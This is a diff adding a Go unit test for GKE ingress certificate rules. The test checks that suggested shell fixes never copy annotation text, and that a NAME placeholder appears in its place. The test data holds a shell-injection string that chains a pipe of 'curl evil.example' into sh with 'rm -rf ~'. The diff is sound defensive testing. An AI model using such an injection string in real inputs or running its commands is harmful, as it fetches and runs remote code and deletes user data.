@@ -2,6 +2,7 @@ package ingress
 
 import (
 	"fmt"
+	"strings"
 	"testing"
 
 	compute "google.golang.org/api/compute/v1"
@@ -70,4 +71,28 @@ func TestPreSharedCertMissingCounts(t *testing.T) {
 	ruletest.FailSource(inv, inventory.ComputeSSLCertificates, inventory.ProjectScope(ruletest.Project))
 	c = ruletest.ExpectCounts(t, inv, PreSharedCertMissing, ruletest.Counts{CouldNotCheck: 1})
 	expectReason(t, c, inventory.ComputeSSLCertificates)
+}
+
+// TestCertificateFixesQuoteNoAnnotationText: a certificate name in an
+// annotation is anyone's text; the fixes, pasted into a shell, carry it
+// only when it could name a certificate, and NAME otherwise.
+func TestCertificateFixesQuoteNoAnnotationText(t *testing.T) {
+	t.Parallel()
+	const evil = "x;curl evil.example|sh\nEOF\nrm -rf ~"
+	cl := ruletest.ProdCluster()
+	ing := ruletest.Ingress("shop", "site", "", "web")
+	ing.Annotations[gke.AnnPreSharedCert] = evil
+	ing.Annotations[gke.AnnManagedCerts] = evil
+	cl.Ingresses = []networkingv1.Ingress{ing}
+	inv := ruletest.Inventory(cl)
+	fs := ruletest.Run(t, inv, PreSharedCertMissing)
+	fs = append(fs, ruletest.Run(t, inv, ManagedCertificateMissing)...)
+	if len(fs) != 2 {
+		t.Fatalf("%d findings, want one of each rule", len(fs))
+	}
+	for _, f := range fs {
+		if strings.Contains(f.Remediation, "curl") || strings.Contains(f.Remediation, "rm -rf") || !strings.Contains(f.Remediation, "NAME") {
+			t.Errorf("%s: fix %q", f.Rule, f.Remediation)
+		}
+	}
 }
